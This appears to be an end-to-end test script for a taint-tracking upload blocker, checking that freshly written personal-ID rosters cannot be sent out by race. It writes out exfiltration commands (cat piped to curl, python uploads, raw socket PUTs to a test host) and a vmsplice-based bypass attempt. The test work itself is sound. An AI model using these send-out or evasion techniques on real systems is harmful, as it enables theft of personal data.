# Issue 14: a read before the learner classifies a file must not get out. With the BPF LSM
# taint on, a non-upload program's open of a file whose current version the agent has not
# classified is allowed at once, but before the answer the agent marks the inode pending
# (a sequence number per version); whoever reads it is pending, pending flows like taint
# (pipes, fork/exec), and a pending process's connect or send is refused until the learner
# has classified that version: Class III drops it, Class I/II turns it into taint. The
# attacker's race, N times: write a Class I file (a My Number roster) and at once
# `cat f | curl`, `curl -T - <f`, and python3 reading it then connecting: every try is
# refused, the listener receives nothing, and each refusal is an upload.denied record. A
# fresh Class III file is sent once the agent has classified it (and a pending one resolves
# to allowed by itself), so the test fails both ways. With the learner held up (its parser
# workers stopped) the refusals are "content not yet classified"; Class I content read and
# then overwritten with Class III content before the learner came is still refused. A program
# that creates a file write-only and sends is not held (nothing was read). vmsplice(2), which
# no file_permission check sees, carries taint both ways: into a pipe (its reader is refused)
# and out of a marked pipe (also when the call waited before the tainted writer wrote).
# e2e-timeout: 1200
. "$E2E_SRCDIR/guest/agent.sh"
. "$E2E_SRCDIR/guest/taint.sh"
fe_setup
ft_guest python3 ip
ft_watched 64M
ft_browser
ft_listener

# Before the agent: a fresh Class I file piped to curl is sent (so the later refusals are the
# agent's).
e2e_as hanako sh -c "printf '氏名,個人番号\n山田,123456789018\nFRESH-before\n' >'$U/before.csv'; cat '$U/before.csv' | $CURL -s -m 10 -o /dev/null -H Expect: --data-binary @- $URL" ||
	fail "hanako's curl cannot send to the listener even before futarid runs"
grep -q "FRESH-before" "$recv" || fail "the listener did not receive the file before futarid ran"
: >"$recv"

ft_start_agent 24
status() { ft_status "$1"; }
# Every wait below is bounded in seconds of the guest's clock, not in rounds: under TCG on a
# loaded host one `futari status` takes a second or more. Each phase notes when it starts,
# so a scenario stopped over time says where it was.
phase() { note "[$SECONDS s] $*"; }

pendings() { cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied".*bpf-lsm' | grep -c 'not yet classified' || true; }
# race NAME N SENDER: as hanako, N times: write a fresh Class I file and at once run SENDER
# on it ($F in SENDER). Every try must fail, deliver nothing, and be logged.
race() {
	local name=$1 n=$2 sender=$3 i rc before
	for ((i = 0; i < n; i++)); do
		local F=$U/$name-$i.csv
		before=$(denials)
		rc=0
		e2e_as hanako timeout 60 bash -c "printf '氏名,個人番号\n山田,123456789018\nRACE-$name-$i\n' >'$F'; ${sender//\$F/$F}" \
			>"$E2E_SCRATCH/$name.out" 2>&1 || rc=$?
		[ "$rc" -ne 124 ] || fail "$name try $i: hung"
		[ "$rc" -ne 0 ] || fail "$name try $i: sent (exit 0): $(cat "$E2E_SCRATCH/$name.out")"
		if grep -q "RACE-$name-$i" "$recv"; then fail "$name try $i: the listener received the file"; fi
		for ((j = 0; j < 50; j++)); do
			[ "$(denials)" -gt "$before" ] && break
			sleep 0.1
		done
		[ "$(denials)" -gt "$before" ] || fail "$name try $i: no upload.denied (bpf-lsm) logged"
	done
	note "[$SECONDS s] $name: $n of $n tries refused and logged"
}

N=${E2E_RACE_TRIES:-10}
C="$CURL -s -m 10 -o /dev/null -H Expect:"
p0=$(pendings)
race pipe "$N" "cat '\$F' | $C --data-binary @- $URL"
# (python3 reading its standard input: curl with the file on its standard input is refused
# at its start by fanotify since round 18, before any taint; upload-exec-inherit.sh)
race stdin "$N" "python3 -c 'import sys, urllib.request; urllib.request.urlopen(\"$URL\", data=sys.stdin.buffer.read(), timeout=10)' <'\$F'"
race python "$N" "python3 -c 'import urllib.request; d=open(\"\$F\",\"rb\").read(); urllib.request.urlopen(\"$URL\", data=d, timeout=10)'"
p1=$(pendings)
note "refused as not yet classified: $((p1 - p0)) of $((3 * N)) (the rest: the learner had classified the file before the send, and the pending read became a Class I taint)"
# The learner held up: the content-parser workers (futari-scan-worker, the agent's
# children) are stopped, so the learner waits on its next file until the pool's deadline
# (30 s) and everything behind it stays unclassified meanwhile. Each try is then refused as
# content not yet classified.
freeze_scanners() {
	SCANPIDS=$(pgrep -f futari-scan-worker | tr '\n' ' ')
	[ -n "$SCANPIDS" ] || fail "no futari-scan-worker to stop"
	kill -STOP $SCANPIDS
}
thaw_scanners() { kill -CONT $SCANPIDS 2>/dev/null || true; }
freeze_scanners
race busy 1 "cat '\$F' | $C --data-binary @- $URL"
race busy-python 1 "python3 -c 'import urllib.request; d=open(\"\$F\",\"rb\").read(); urllib.request.urlopen(\"$URL\", data=d, timeout=10)'"
thaw_scanners
p2=$(pendings)
[ "$p2" -ge $((p1 + 2)) ] ||
	fail "with the learner held up, $((p2 - p1)) of 2 refusals were for content not yet classified: $(cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied"' | tail -n 2 | cut -c1-400)"
rec=$(fe_log_has '"upload.denied"' bpf-lsm 'not yet classified') || fail "no pending refusal in the log"
echo "$rec" | grep -F '"classification":"pending"' >/dev/null || fail "the pending refusal does not say so: $rec"
echo "$rec" | grep -F "$U/" >/dev/null || fail "the pending refusal does not name the file: $rec"
echo "$rec" | grep -F "\"uid\":$(id -u hanako)" >/dev/null || fail "the pending refusal does not name the uid: $rec"
[ "$(status taint_pending_set)" -ge 1 ] || fail "futari status counts no pending marks"

# The rewrite race: Class I content read through a pending open, Class III written over it
# before the learner (held up again) comes. The learner's
# Class III verdict is on the new version: it must not resolve the number the read carries,
# which ends Class II. The reader sends only once the learner is idle (no pending left), so
# the refusal is a taint, not "not yet classified".
phase "rewrite race"
R=$U/rewrite.csv
flag=$shm/learner-idle
rm -f "$flag" "$flag.rewritten"
freeze_scanners
e2e_as hanako timeout 300 python3 -c '
import os, sys, time, urllib.request
f, url, flag = sys.argv[1:4]
with open(f, "w") as w:
    w.write("氏名,個人番号\n山田,123456789018\nREWRITE-DATA\n")
d = open(f, "rb").read()
with open(f, "w") as w:
    w.write("lunch menu, nothing personal, a little longer than before\n")
open(flag + ".rewritten", "w").close()
while not os.path.exists(flag):
    time.sleep(0.2)
try:
    urllib.request.urlopen(url, data=d, timeout=10)
    print("sent")
except Exception as e:
    print("refused:", e)
    sys.exit(1)' "$R" "$URL" "$flag" >"$E2E_SCRATCH/rewrite.out" 2>&1 &
RPID=$!
for ((j = 0; j < 300; j++)); do [ -e "$flag.rewritten" ] && break; sleep 0.1; done
[ -e "$flag.rewritten" ] || fail "rewrite race: the reader did not get to rewrite the file"
thaw_scanners
# Idle: nothing waits for the learner (one large file takes it a while).
ft_learner_idle
touch "$flag"
rc=0
wait "$RPID" || rc=$?
[ "$rc" -ne 0 ] || fail "rewrite race: the Class I content read before the rewrite was sent: $(cat "$E2E_SCRATCH/rewrite.out")"
if grep -q REWRITE-DATA "$recv"; then fail "rewrite race: the listener received the content"; fi
rec=$(cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied".*bpf-lsm' | tail -n 1)
echo "$rec" | grep -F 'not yet classified' >/dev/null &&
	fail "rewrite race: refused only as not yet classified (the learner was not done): $rec"
note "rewrite race: refused as a taint: $(echo "$rec" | grep -o '"class":"[^"]*"')"

# After the learner: the same content is Class I, an ordinary taint (so the pending above
# was not a refusal of everything).
phase "a classified Class I file"
F=$U/pipe-0.csv
before=$(denials)
rc=0
e2e_as hanako timeout 60 bash -c "cat '$F' | $C --data-binary @- $URL" >/dev/null 2>&1 || rc=$?
[ "$rc" -ne 0 ] || fail "the classified Class I file was sent"
for ((j = 0; j < 50; j++)); do [ "$(denials)" -gt "$before" ] && break; sleep 0.1; done
rec=$(cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied".*bpf-lsm' | tail -n 1)
echo "$rec" | grep -F 'pipe-0.csv' | grep -F '"I"' >/dev/null ||
	fail "after classification the refusal is not a Class I taint naming the file: $rec"

# A fresh Class III file: once classified it is sent (the pending resolves, nothing stays).
phase "a fresh Class III file"
G=$U/notes.txt
e2e_as hanako sh -c "printf 'lunch menu FRESH-III-DATA\n' >'$G'"
e2e_as hanako cat "$G" >/dev/null
# The learner may still be on files of the frozen rounds above (a content-parser worker
# waited out to the pool's deadline, 30 s), and everything runs several times slower under
# TCG: its queue is waited out, not a fixed time. (cat's open gives the file a pending
# number only when the learner has not yet classified this version from the writer's open:
# a count of resolutions is no condition here; a CI run waited for one that never came.)
ft_learner_idle
e2e_as hanako timeout 60 bash -c "cat '$G' | $C --data-binary @- $URL" >"$E2E_SCRATCH/iii.out" 2>&1 ||
	fail "a classified Class III file was refused: $(cat "$E2E_SCRATCH/iii.out") $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
grep -q FRESH-III-DATA "$recv" || fail "the listener did not receive the Class III file"
: >"$recv"
# Raced too: written and piped at once, it may be refused while pending, but a process that
# read it while it was pending can send once the agent has classified it (no retry of the read).
H=$U/menu.txt
rc=0
e2e_as hanako timeout 60 bash -c "printf 'dinner FRESH-III-RACE\n' >'$H'; cat '$H' | { d=\$(cat); for i in \$(seq 50); do printf '%s' \"\$d\" | $C --data-binary @- $URL && exit 0; sleep 0.2; done; exit 1; }" \
	>"$E2E_SCRATCH/iii-race.out" 2>&1 || rc=$?
# The retrying shell read the pipe while pending: its retries pass once resolved.
[ "$rc" -eq 0 ] || fail "a pending reader of a Class III file never got to send: $(cat "$E2E_SCRATCH/iii-race.out")"
grep -q FRESH-III-RACE "$recv" || fail "the listener did not receive the raced Class III file"
note "taint: pending marks $(status taint_pending_set), pending reads $(status taint_pending_read), resolved $(status taint_resolved), overflow $(status taint_pending_overflow)"

# The kernel keeps its verdicts in an LRU map (resolved, 65536 numbers): a verdict it evicted
# must not leave a reader refused until it exits. Evicted here by hand (bpftool deletes every
# verdict in the map; the agent keeps its own copy). Two readers read while pending (the
# learner held up), then wait until both verdicts are in and evicted: the first try of each
# is refused as not yet classified, the agent gives the kernel the verdict again, and the
# next try is decided on it: the Class III reader gets its content out, the Class I reader
# stays refused, now as a Class I taint.
evict_verdicts() {
	bpftool -j map dump name resolved | python3 -c '
import json, subprocess, sys
n = 0
for e in json.load(sys.stdin):
    k = e.get("key")
    if isinstance(k, list):
        b = [str(int(x, 16)) for x in k]
    else:
        k = e.get("formatted", {}).get("key", k)
        b = [str(x) for x in int(k).to_bytes(8, "little")]
    subprocess.run(["bpftool", "map", "delete", "name", "resolved", "key"] + b, check=True)
    n += 1
print(n)'
}
phase "evicted verdicts"
E3=$U/evict-iii.txt
E1=$U/evict-i.csv
ev=$shm/evict
rm -f "$ev".*
freeze_scanners
e2e_as hanako sh -c "printf 'lunch menu EVICT-III-DATA\n' >'$E3'; printf '氏名,個人番号\n山田,123456789018\nEVICT-I-DATA\n' >'$E1'"
reader='
import os, sys, time, urllib.request
f, url, flag = sys.argv[1:4]
d = open(f, "rb").read()
open(flag + ".read", "w").close()
while not os.path.exists(flag + ".go"):
    time.sleep(0.2)
last = None
for i in range(20):
    try:
        urllib.request.urlopen(url, data=d, timeout=10)
        print("sent on try", i + 1)
        sys.exit(0)
    except Exception as e:
        last = e
        time.sleep(0.3)
print("refused 20 times:", last)
sys.exit(1)'
e2e_as hanako timeout 300 python3 -c "$reader" "$E3" "$URL" "$ev-3" >"$E2E_SCRATCH/evict3.out" 2>&1 &
P3=$!
e2e_as hanako timeout 300 python3 -c "$reader" "$E1" "$URL" "$ev-1" >"$E2E_SCRATCH/evict1.out" 2>&1 &
P1=$!
for ((j = 0; j < 300; j++)); do [ -e "$ev-3.read" ] && [ -e "$ev-1.read" ] && break; sleep 0.1; done
[ -e "$ev-3.read" ] && [ -e "$ev-1.read" ] || fail "eviction: the readers did not read their files"
thaw_scanners
# Both verdicts in: nothing waits for the learner.
ft_learner_idle
evicted=$(evict_verdicts) || fail "cannot evict the kernel's verdicts with bpftool"
[ "$evicted" -ge 2 ] || fail "eviction: only $evicted verdicts were in the kernel's map"
rp0=$(status taint_republished)
p3=$(pendings)
touch "$ev-3.go" "$ev-1.go"
rc3=0
wait "$P3" || rc3=$?
rc1=0
wait "$P1" || rc1=$?
[ "$rc3" -eq 0 ] || fail "eviction: the Class III reader stayed refused after its verdict was evicted: $(cat "$E2E_SCRATCH/evict3.out")"
grep -q EVICT-III-DATA "$recv" || fail "eviction: the listener did not receive the Class III content"
[ "$rc1" -ne 0 ] || fail "eviction: the Class I content was sent once its verdict was evicted: $(cat "$E2E_SCRATCH/evict1.out")"
if grep -q EVICT-I-DATA "$recv"; then fail "eviction: the listener received the Class I content"; fi
[ "$(pendings)" -gt "$p3" ] || fail "eviction: no refusal as not yet classified after the eviction"
[ "$(status taint_republished)" -ge $((rp0 + 2)) ] ||
	fail "eviction: the agent gave $(($(status taint_republished) - rp0)) of 2 verdicts again"
rec=$(fe_log_has '"upload.denied"' bpf-lsm 'not yet classified' verdicts_republished) ||
	fail "eviction: no pending refusal says it gave verdicts again"
rec=$(cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied".*bpf-lsm' | tail -n 1)
echo "$rec" | grep -F 'not yet classified' >/dev/null &&
	fail "eviction: the Class I reader was still refused as not yet classified after the agent gave its verdict again: $rec"
echo "$rec" | grep -F '"class":"I"' >/dev/null || fail "eviction: the last refusal is not a Class I taint: $rec"
note "eviction: $evicted verdicts evicted; the Class III reader $(cat "$E2E_SCRATCH/evict3.out"), the Class I reader refused; $(($(status taint_republished) - rp0)) verdicts given again"

# A write-only open (O_WRONLY|O_CREAT|O_TRUNC) gives the file's version a pending number like
# any other open (fanotify does not say how a file was opened), but nothing is read through
# it: the writer is not made pending, and sends at once; a later reader of what it wrote is
# pending on the new version until the learner has classified it, then sends (Class III).
phase "a write-only open"
W=$U/written.txt
ps0=$(status taint_pending_set)
pr0=$(status taint_pending_read)
e2e_as hanako timeout 60 python3 -c '
import os, socket, sys, time
fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
os.write(fd, b"plain notes WRITEONLY-FILE\n" * 10)
s = socket.create_connection(("192.0.2.1", 8080), 10)
s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: 20\r\n\r\nWRITEONLY-SENT-DATA\n")
s.close()
os.close(fd)
print("write-only: sent", file=sys.stderr)
d = open(sys.argv[1], "rb").read()
for i in range(100):
    try:
        s = socket.create_connection(("192.0.2.1", 8080), 10)
        s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: 300\r\n\r\n" + d)
        s.close()
        print("read back: sent after", i, "refusals", file=sys.stderr)
        sys.exit(0)
    except PermissionError:
        time.sleep(0.2)
sys.exit(1)' "$W" >"$E2E_SCRATCH/writeonly.out" 2>&1 ||
	fail "write-only: refused: $(cat "$E2E_SCRATCH/writeonly.out") $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
grep -q WRITEONLY-SENT-DATA "$recv" || fail "write-only: the listener did not receive the writer's send"
grep -q WRITEONLY-FILE "$recv" || fail "write-only: the listener did not receive the file read back"
: >"$recv"
# (In a subshell: the output file was written by a pending process, so reading it through a
# command substitution would make this shell, and all it starts later, pending too.)
(note "write-only: $(tr '\n' ' ' <"$E2E_SCRATCH/writeonly.out"); pending marks +$(($(status taint_pending_set) - ps0)), pending reads +$(($(status taint_pending_read) - pr0))")

# vmsplice(2) moves user memory into a pipe, or pipe pages out to user memory, with no
# file_permission check of the pipe. A tainted writer's vmsplice into a pipe must mark it
# (its untainted reader, which connected first, is then refused), and an untainted reader's
# vmsplice out of a marked pipe must taint it, also when it waited in the call before the
# tainted writer wrote (python3 through ctypes: it has no os.vmsplice).
phase "vmsplice"
V=$U/vms-roster.csv
# (Counted before the file is written: the learner may judge it from the writer's open.)
marked=$(status taint_marked)
e2e_as hanako sh -c "printf '氏名,個人番号\n山田,123456789018\nVMSPLICE-SECRET\n' >'$V'"
end=$((SECONDS + 60))
while [ "$SECONDS" -lt "$end" ]; do
	[ "$(status taint_marked)" -gt "$marked" ] && break
	e2e_as hanako cat "$V" >/dev/null || true
	sleep 0.2
done
[ "$(status taint_marked)" -gt "$marked" ] || fail "vmsplice: the agent never marked $V"
cat >"$E2E_SCRATCH/vms.py" <<'PY'
import ctypes, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
def vmsplice(fd, buf, n):
    iov = iovec(ctypes.cast(buf, ctypes.c_void_p), n)
    r = libc.vmsplice(fd, ctypes.byref(iov), ctypes.c_ulong(1), ctypes.c_uint(0))
    if r < 0:
        raise OSError(ctypes.get_errno(), "vmsplice")
    return r
if sys.argv[1] == "write":  # read FILE, vmsplice it into stdout (a pipe)
    d = open(sys.argv[2], "rb").read()
    buf = ctypes.create_string_buffer(d, len(d))
    print("vmspliced", vmsplice(1, buf, len(d)), file=sys.stderr)
    time.sleep(3)  # the pages stay this process's until the reader took them
else:  # connect, then vmsplice out of stdin (a pipe), then send what came
    s = socket.create_connection(("192.0.2.1", 8080), 10)
    s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n")
    if len(sys.argv) > 2:
        open(sys.argv[2], "w").close()
    buf = ctypes.create_string_buffer(65536)
    n = vmsplice(0, buf, 65536)
    print("read", n, file=sys.stderr)
    s.sendall(buf.raw[:n])
PY
chmod 0644 "$E2E_SCRATCH/vms.py"
vdenied() { # NAME COMMAND: as hanako, must not deliver the roster, and one more refusal logged
	local name=$1 before rc=0 i
	before=$(denials)
	e2e_as hanako timeout 30 bash -c "$2" >"$E2E_SCRATCH/$name.out" 2>&1 || rc=$?
	[ "$rc" -ne 124 ] || fail "$name: hung: $(cat "$E2E_SCRATCH/$name.out")"
	[ "$rc" -ne 0 ] || fail "$name: succeeded (exit 0): $(cat "$E2E_SCRATCH/$name.out")"
	if grep -q VMSPLICE-SECRET "$recv"; then fail "$name: the listener received the roster: $(cat "$E2E_SCRATCH/$name.out")"; fi
	for ((i = 0; i < 50; i++)); do
		[ "$(denials)" -gt "$before" ] && break
		sleep 0.1
	done
	[ "$(denials)" -gt "$before" ] || fail "$name: no upload.denied (bpf-lsm) logged"
	grep -q "^read [1-9]" "$E2E_SCRATCH/$name.out" || fail "$name: refused before the reader read: $(cat "$E2E_SCRATCH/$name.out")"
	note "$name: refused (exit $rc), logged"
}
vdenied vmsplice-into-pipe "python3 '$E2E_SCRATCH/vms.py' write '$V' | python3 -c 'import os,socket,sys; s=socket.create_connection((\"192.0.2.1\", 8080), 10); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); d=os.read(0, 65536); print(\"read\", len(d), file=sys.stderr); s.sendall(d)'"
rm -f "$shm/vms.ready"
vdenied vmsplice-out-of-pipe "(for i in \$(seq 100); do [ -e '$shm/vms.ready' ] && break; sleep 0.1; done; sleep 1; cat '$V') | python3 '$E2E_SCRATCH/vms.py' read '$shm/vms.ready'"
